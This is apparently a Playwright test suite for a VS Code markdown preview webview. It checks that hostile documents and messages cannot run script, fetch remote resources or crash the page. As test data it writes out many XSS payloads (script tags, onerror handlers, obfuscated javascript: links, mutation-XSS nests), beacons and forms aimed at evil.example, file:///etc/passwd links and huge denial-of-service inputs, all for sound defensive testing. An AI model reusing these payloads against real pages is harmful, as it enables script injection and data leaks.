/** Hostile documents and messages: nothing executes, nothing leaves, nothing breaks. */
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { holesOf } from '../../src/core/document/holes.js';
import { analyzeDocument } from '../../src/core/document/index.js';
import type { PreviewDocument, ToPreview } from '../../src/protocol/preview-messages.js';
import { launch, noBrowser, PreviewPageDriver, secret } from './preview-page.js';
import { readRecording } from './recording.js';

const base = readRecording('tomato-soup');
const beacon = 'https://evil.example';

function documentOf(text: string): PreviewDocument {
  return { ...base.idle, text, holes: holesOf(analyzeDocument(text).document) };
}

describe.skipIf(noBrowser)('a hostile document', () => {
  let browser: Browser;
  let driver: PreviewPageDriver;
  let shown = 0;
  beforeAll(async () => {
    browser = await launch();
    driver = await PreviewPageDriver.open(browser);
  });
  afterAll(async () => {
    await driver.close();
    await browser.close();
  });

  /** Shows the text, clicks every link in it, and looks whether the page is what it was. */
  async function show(text: string): Promise<void> {
    driver.clearReceived();
    driver.requests.length = 0;
    shown += 1;
    const title = `hostile-${shown}.md`;
    await driver.send({ ...documentOf(text), title });
    while ((await driver.page.title()) !== title) await driver.page.waitForTimeout(100);
    for (const link of (await driver.page.locator('article a').all()).slice(0, 5)) await link.click();
    await driver.painted();
    const state = await driver.page.evaluate(() => ({
      hacked: (window as unknown as { hacked?: unknown }).hacked,
      elements: document.querySelectorAll(
        'article :is(script, style, iframe, object, embed, form, input, base, meta, link, svg, math, textarea, video, audio)',
      ).length,
      handlers: [...document.querySelectorAll('article *')].flatMap((found) =>
        // The page's own scripts set sizes and times; what a document brings could only be fetched from somewhere.
        [...found.attributes].filter(
          ({ name, value }) =>
            /^on|^id$|^name$|^srcdoc$/.test(name) || (name === 'style' && /url|@|expr/.test(value)),
        ),
      ).length,
      isAlive: typeof document.querySelector('.header')?.textContent,
      address: location.href,
    }));
    expect(state).toEqual({
      hacked: undefined,
      elements: 0,
      handlers: 0,
      isAlive: 'string',
      address: 'https://preview.test/',
    });
    expect(driver.requests).toEqual([]);
    expect(driver.faults).toEqual([]);
    const links = driver.received.flatMap((message) => (message.type === 'open-link' ? [message.href] : []));
    for (const href of links) expect(href).toMatch(/^(?:https?:|mailto:|#|[\w./%-]+$)/);
  }

  const attack = 'window.hacked=1';
  const documents: readonly (readonly [name: string, text: string])[] = [
    ['1 a script', `<script>${attack}</script>\n\na <script>${attack}</script> b`],
    ['2 an error handler', `<img src=x onerror="${attack}">`],
    ['3 a style that loads', `<style onload="${attack}">body{display:none}</style>`],
    ['4 a frame', `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`],
    [
      '5 javascript: in every spelling',
      `[a](javascript:${attack}) [b](JaVaScRiPt:${attack}) [c](&#106;avascript:${attack}) [d](java&#10;script:${attack}) [e](<\u0001javascript:${attack}>)`,
    ],
    [
      '6 other schemes that run',
      '[a](vbscript:x) [b](file:///etc/passwd) [c](data:text/html;base64,PHNjcmlwdD4=)',
    ],
    [
      '7 a picture of SVG with a script',
      '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)',
    ],
    ['8 foreign objects', `<svg><foreignObject><body onload="${attack}"></foreignObject></svg>`],
    [
      '9 nests that mutate',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${attack}&gt;">\n\n<textarea><style></textarea><img src=x onerror=${attack}>`,
    ],
    [
      '10 a base and a refresh',
      `<base href="${beacon}/"><meta http-equiv="refresh" content="0;url=${beacon}">`,
    ],
    ['11 a form', `<form action="${beacon}"><input name=a><button>send</button></form>`],
    [
      '12 commands of the editor',
      '[a](command:workbench.action.quit) [b](vscode://file/etc/passwd) <command:x>',
    ],
    [
      '13 styles that fetch',
      `<p style="background:url(${beacon}/a)">x</p>\n\n<style>@import "${beacon}/b.css";</style>`,
    ],
    [
      '14 a remote picture',
      `![x](${beacon}/a.png) ![y](//evil.example/b.png)\n\n![z][r]\n\n[r]: ${beacon}/c.png`,
    ],
    ['15 names that shadow', '<a id="acquireVsCodeApi" name="hostReceives">x</a>\n\n[x](#acquireVsCodeApi)'],
    [
      '16 names of prototypes',
      '[__proto__]: https://a.example\n[constructor]: https://b.example\n\n[__proto__] [constructor] [toString]',
    ],
    ['20 invisible characters', '\uFEFFa\0b \uD800 c \u2028 d \u202Ee\u202C ![al\u202Et\0](mask:)'],
    [
      '21 front matter',
      `---\na: &a [x,x]\nb: &b [*a,*a,*a]\nc: !!js/function "function(){${attack}}"\n---\n\ntext`,
    ],
    ['22 marks in a fence', '```\n<!--mask-->x<!--/mask-->\n![y](mask:)\n```'],
    [
      '23 marks nested, overlapping, unclosed',
      'a <!--mask-->b <!--mask-->c<!--/mask--> d\n\n<!--/mask--> <!--mask-->\n\nx',
    ],
    [
      '24 marks in links, cells, comments and code',
      '[a <!--mask-->b<!--/mask-->](x.md)\n\n| a |\n|---|\n| <!--mask-->c<!--/mask--> |\n\n<!-- <!--mask--> -->\n\n`<!--mask-->d<!--/mask-->`',
    ],
    ['26 line ends of every kind, none at the end', 'a\r\nb <!--mask-->c<!--/mask-->\rd\n\r\n- e\r\n- f'],
  ];
  it.each(documents)('%s', async (_name, text) => {
    await show(text);
  });

  const large: readonly (readonly [name: string, text: () => string])[] = [
    ['17 a megabyte of [', () => '['.repeat(1_000_000)],
    ['17 a megabyte of *', () => '*'.repeat(1_000_000)],
    ['17 a megabyte of `', () => '` '.repeat(500_000)],
    ['17 a megabyte of <', () => '<'.repeat(1_000_000)],
    ['18 quotes 50,000 deep', () => `${'> '.repeat(50_000)}x`],
    [
      '18 lists 1,000 deep',
      () => Array.from({ length: 1000 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n'),
    ],
    ['19 ten megabytes on one line', () => 'word '.repeat(2_000_000)],
    ['25 10,000 masks', () => 'a <!--mask-->b<!--/mask--> c\n\n'.repeat(10_000)],
  ];
  it.each(large)('%s', { timeout: 120_000 }, async (_name, make) => {
    await show(make());
  });

  it('14 loads a remote picture once the author has allowed it', async () => {
    await show(`![x](${beacon}/a.png)`);
    await driver.page.getByRole('button', { name: 'Load them in this document' }).click();
    await driver.waitFor('allow-remote-pictures');
    const allowed = await PreviewPageDriver.open(browser, { settings: { allowRemotePictures: true } });
    await allowed.send(documentOf(`![x](${beacon}/a.png)`));
    await allowed.painted();
    expect(allowed.requests).toEqual([`${beacon}/a.png`]);
    await allowed.close();
  });
});

describe.skipIf(noBrowser)('a hostile message', () => {
  let browser: Browser;
  let driver: PreviewPageDriver;
  beforeAll(async () => {
    browser = await launch();
  });
  afterEach(() => driver.close());
  afterAll(() => browser.close());

  async function open(): Promise<void> {
    driver = await PreviewPageDriver.open(browser);
    await driver.send(base.idle, { type: 'run-started', run: base.run });
    await driver.send({ type: 'frames', runId: 'r1', frames: base.frames.slice(0, 5) });
    await driver.painted();
  }

  /** The page shows the fifth step, and is alive. */
  async function isUnharmed(): Promise<void> {
    await driver.painted();
    expect(await driver.page.locator('.status').textContent()).toBe(`Step 5 of ${base.frames[4]!.passes}`);
    expect(driver.faults).toEqual([]);
    await driver.send({ type: 'frames', runId: 'r1', frames: base.frames.slice(5, 6) });
    await driver.painted();
    expect(await driver.page.locator('.status').textContent()).toBe(`Step 6 of ${base.frames[5]!.passes}`);
  }

  const frame = base.frames[6]!;
  const envelope = (message: unknown): unknown => ({ channel: 'oneflow-preview', secret, message });
  const frames = (change: object): unknown =>
    envelope({ type: 'frames', runId: 'r1', frames: [{ ...frame, ...change }] });
  const cases: readonly (readonly [name: string, data: unknown])[] = [
    ['27 of an unknown type', envelope({ type: 'run', code: 'window.hacked=1' })],
    ['27 that is none', envelope(null)],
    ['28 with a string for a number', frames({ pass: '7' })],
    ['28 with a negative pass', frames({ pass: -1 })],
    ['28 with a pass that is no whole number', frames({ pass: 6.5 })],
    ['28 with a pass of 2^53', frames({ pass: 2 ** 53 })],
    ['28 with an offset of 2^53', envelope({ type: 'reveal', offset: 2 ** 53 })],
    ['28 with a negative offset', envelope({ type: 'reveal', offset: -5 })],
    ['28 with a time that is no number', frames({ spans: [{ ...frame.spans[0]!, t: null }] })],
    ['29 without a secret', { channel: 'oneflow-preview', message: { type: 'run-forgotten', runId: 'r1' } }],
    [
      '29 with a foreign secret',
      { channel: 'oneflow-preview', secret: 'x', message: { type: 'run-forgotten', runId: 'r1' } },
    ],
    ['29 of another channel', { channel: 'other', secret, message: { type: 'run-forgotten', runId: 'r1' } }],
    ['29 of no form at all', 'run-forgotten'],
    ['30 for a run that is over and gone', envelope({ type: 'frames', runId: 'gone', frames: [frame] })],
    [
      '30 that repeats an earlier frame',
      envelope({ type: 'frames', runId: 'r1', frames: base.frames.slice(0, 5) }),
    ],
    ['34 with a string of 100 MB', envelope({ type: 'show', page: 'x'.repeat(100_000_000) })],
  ];
  it.each(cases)('%s changes nothing', async (_name, data) => {
    await open();
    await driver.post(data);
    await isUnharmed();
  });

  it('28 with fresh ranges and previews that lie is shown as far as it goes', async () => {
    await open();
    const [span] = frame.spans;
    const [picture] = frame.pictures;
    const lie: ToPreview = {
      type: 'frames',
      runId: 'r1',
      frames: [
        {
          ...frame,
          pass: 6,
          spans: [
            {
              ...span!,
              text: 'short',
              fresh: [
                [3, 900],
                [4, 2],
              ],
            },
          ],
          pictures: [{ ...picture!, preview: { width: 4000, height: 4000, rgb: new Uint8Array(3) } }],
        },
      ],
    };
    await driver.send(lie);
    await driver.painted();
    expect(await driver.page.locator('.status').textContent()).toContain('Step 6');
    expect(driver.faults).toEqual([]);
  });

  it('33 in a flood is painted at most fifteen times a second, and the last one stays', async () => {
    await open();
    const painted = await driver.page.evaluate(
      ({ message, count }) =>
        new Promise<number>((resolve) => {
          let changes = 0;
          const status = document.querySelector('.status')!;
          const observer = new MutationObserver(() => (changes += 1));
          observer.observe(status, { childList: true, characterData: true, subtree: true });
          for (let pass = 6; pass < 6 + count; pass += 1) {
            (window as unknown as { receiveJson(json: string): void }).receiveJson(
              message.replaceAll('"PASS"', String(pass)),
            );
          }
          setTimeout(() => {
            resolve(changes);
          }, 1000);
        }),
      {
        count: 2000,
        message: JSON.stringify(
          envelope({
            type: 'frames',
            runId: 'r1',
            frames: [{ ...frame, pass: 'PASS', passes: 'PASS', pictures: [] }],
          }),
        ),
      },
    );
    expect(painted).toBeLessThanOrEqual(16);
    expect(await driver.page.locator('.status').textContent()).toBe('Step 2,005 of 2,005');
    expect(driver.faults).toEqual([]);
  });

  it('shows model text with markup in it as what it is: words', async () => {
    await open();
    const text =
      '<img src=x onerror="window.hacked=1"> [x](javascript:window.hacked=1) ![y](https://evil.example/a.png)';
    await driver.send({
      type: 'frames',
      runId: 'r1',
      frames: [{ ...frame, pass: 6, spans: [{ id: 'm2', t: 0.5, text, fresh: [[0, text.length]] }] }],
    });
    await driver.painted();
    expect(await driver.page.locator('[data-hole="m2"]').textContent()).toContain('<img src=x onerror=');
    expect(await driver.page.locator('[data-hole="m2"] :is(img, a[href])').count()).toBe(0);
    expect(
      await driver.page.evaluate(() => (window as unknown as { hacked?: number }).hacked),
    ).toBeUndefined();
    expect(driver.requests).toEqual([]);
  });
});
